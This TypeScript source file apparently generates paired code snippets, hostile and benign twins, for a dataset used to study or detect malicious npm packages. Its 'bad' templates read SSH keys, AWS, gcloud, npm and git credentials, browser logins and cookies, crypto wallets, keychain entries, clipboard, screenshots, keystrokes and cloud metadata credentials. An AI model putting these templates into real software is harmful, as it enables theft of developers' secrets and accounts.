import { quoted, type JsWriter } from './writer.ts'

/** What is done with the data that a source gives: statements. */
export type Use = (expression: string) => string

export interface JsSource {
  /** statements that get hold of something that is not theirs, and use it */
  readonly bad: (w: JsWriter, use: Use) => string
  /** the same interfaces on what is the package's own */
  readonly twin: (w: JsWriter, use: Use, name: string) => string
  /** it is a parameter of an exported function, of this name; the twin's parameter beside it */
  readonly parameter?: readonly [string, string]
}

function got(w: JsWriter, expression: string, use: Use): string {
  const name = w.fresh('data')
  return `const ${name} = ${expression};\n${use(name)}`
}

function env(w: JsWriter): string {
  return w.attr(w.global('process'), 'env')
}

function variable(w: JsWriter, name: string): string {
  return w.style.names === true ? `${env(w)}[${w.text(name)}]` : `${env(w)}.${name}`
}

/** A path below the home directory, in one of the usual spellings. */
export function home(w: JsWriter, path: string): string {
  switch (w.random.below(3)) {
    case 0:
      return `${w.fn('path', 'join')}(${w.fn('os', 'homedir')}(), ${path
        .split('/')
        .map((part) => w.text(part))
        .join(', ')})`
    case 1:
      return `${w.fn('os', 'homedir')}() + ${w.text(`/${path}`)}`
    default:
      return `${w.fn('path', 'join')}(${env(w)}.HOME || ${env(w)}.USERPROFILE, ${w.text(path)})`
  }
}

function read(w: JsWriter, path: string): string {
  return `${w.fn('fs', 'readFileSync')}(${path}, 'utf8')`
}

function file(path: string): JsSource {
  return {
    bad: (w, use) => got(w, read(w, home(w, path)), use),
    twin: (w, use, name) => got(w, read(w, home(w, `.config/${name}/settings.json`)), use),
  }
}

function ran(w: JsWriter, command: string, use: Use): string {
  return got(w, `${w.fn('child_process', 'execSync')}(${command}).toString()`, use)
}

/** What a command prints. The twin's stands there as it is: no innocent package hides a command. */
function output(command: string, own: string): JsSource {
  return { bad: (w, use) => ran(w, w.text(command), use), twin: (w, use) => ran(w, quoted(own), use) }
}

/** All files of a folder below the home directory. */
function folder(path: string): JsSource {
  return { bad: (w, use) => walked(w, path, use), twin: (w, use, name) => walked(w, `.cache/${name}/pages`, use) }
}

function walked(w: JsWriter, path: string, use: Use): string {
  const dir = w.fresh('dir')
  const content = `${w.fn('fs', 'readFileSync')}(${w.fn('path', 'join')}(${dir}, f)).toString('base64')`
  return `const ${dir} = ${home(w, path)};\n${got(w, `${w.fn('fs', 'readdirSync')}(${dir}).map((f) => ${content}).join()`, use)}`
}

const argument = (own: string, theirs: string): JsSource => ({
  parameter: [theirs, own],
  bad: (_w, use) => use(theirs),
  twin: (_w, use) => use(own),
})

export const JS_SOURCES: Readonly<Record<string, JsSource>> = {
  env: {
    bad: (w, use) => got(w, `JSON.stringify(${env(w)})`, use),
    twin: (w, use, name) =>
      got(w, `JSON.stringify(${variable(w, `${name.replaceAll('-', '_').toUpperCase()}_MODE`)} || 'plain')`, use),
  },
  'env-entries': {
    bad: (w, use) =>
      got(
        w,
        `Object.entries(${env(w)}).filter(([k]) => /TOKEN|KEY|SECRET/.test(k)).map(([k, v]) => k + '=' + v).join('\\n')`,
        use,
      ),
    twin: (w, use, name) =>
      got(
        w,
        `Object.entries({ mode: ${variable(w, `${name.replaceAll('-', '_').toUpperCase()}_MODE`)} }).filter(([k]) => /MODE/.test(k)).map(([k, v]) => k + '=' + v).join('\\n')`,
        use,
      ),
  },
  'one-secret': {
    bad: (w, use) =>
      got(w, variable(w, w.random.pick(['NPM_TOKEN', 'GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'OPENAI_API_KEY'])), use),
    twin: (w, use, name) => got(w, variable(w, `${name.replaceAll('-', '_').toUpperCase()}_LEVEL`), use),
  },
  'two-secrets': {
    bad: (w, use) => got(w, `[${variable(w, 'AWS_ACCESS_KEY_ID')}, ${variable(w, 'GITHUB_TOKEN')}].join(':')`, use),
    twin: (w, use) => got(w, `[${variable(w, 'LANG')}, ${variable(w, 'TERM')}].join(':')`, use),
  },
  npmrc: file('.npmrc'),
  aws: file('.aws/credentials'),
  ssh: file('.ssh/id_rsa'),
  gcloud: file('.config/gcloud/application_default_credentials.json'),
  docker: file('.docker/config.json'),
  'git-credentials': file('.git-credentials'),
  history: file('.bash_history'),
  agent: file('.claude/.credentials.json'),
  'browser-logins': file('.config/google-chrome/Default/Login Data'),
  cookies: file('.mozilla/firefox/profiles/cookies.sqlite'),
  wallet: folder('.config/Exodus/exodus.wallet'),
  dotenv: {
    bad: (w, use) =>
      got(w, read(w, `${w.fn('path', 'resolve')}(${w.attr(w.global('process'), 'cwd')}(), ${w.text('.env')})`), use),
    twin: (w, use) => got(w, read(w, `${w.fn('path', 'resolve')}(${w.here()}, ${w.text('defaults.ini')})`), use),
  },
  keychain: output('security find-generic-password -ga login', 'git --version'),
  clipboard: output('pbpaste', 'uname -m'),
  screen: {
    bad: (w, use) => {
      const image = w.fresh('image')
      return `${w.mod('screenshot-desktop')}({ format: 'png' }).then((${image}) => {\n${use(`${image}.toString('base64')`)}\n});`
    },
    twin: (w, use) => {
      const image = w.fresh('image')
      return `${w.fn('fs', 'promises')}.readFile(${w.fn('path', 'join')}(${w.here()}, 'icon.png')).then((${image}) => {\n${use(`${image}.toString('base64')`)}\n});`
    },
  },
  keyboard: {
    bad: (w, use) =>
      `const keys1 = new (${w.fn('node-global-key-listener', 'GlobalKeyboardListener')})();\nkeys1.addListener((e) => {\n${use('e.name')}\n});`,
    twin: (w, use) =>
      `const lines1 = ${w.fn('readline', 'createInterface')}({ input: process.stdin });\nlines1.on('line', (e) => {\n${use('e')}\n});`,
  },
  metadata: {
    bad: (w, use) => requested(w, 'http', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', use),
    twin: (w, use, name) => requested(w, 'https', `https://api.${name}.invalid/v1/formats`, use),
  },
  machine: {
    bad: (w, use) =>
      got(
        w,
        `JSON.stringify({ h: ${w.fn('os', 'hostname')}(), u: ${w.fn('os', 'userInfo')}().username, d: ${w.here()} })`,
        use,
      ),
    twin: (w, use) => got(w, `JSON.stringify({ p: ${w.fn('os', 'platform')}(), a: ${w.fn('os', 'arch')}() })`, use),
  },
  mnemonic: argument('text', 'mnemonic'),
  'private-key': argument('message', 'privateKey'),
  password: argument('note', 'password'),
}

function requested(w: JsWriter, module: string, url: string, use: Use): string {
  const body = w.fresh('body')
  return `${w.fn(module, 'get')}(${w.text(url)}, (res) => {\nlet ${body} = '';\nres.on('data', (c) => { ${body} += c; });\nres.on('end', () => {\n${use(body)}\n});\n});`
}
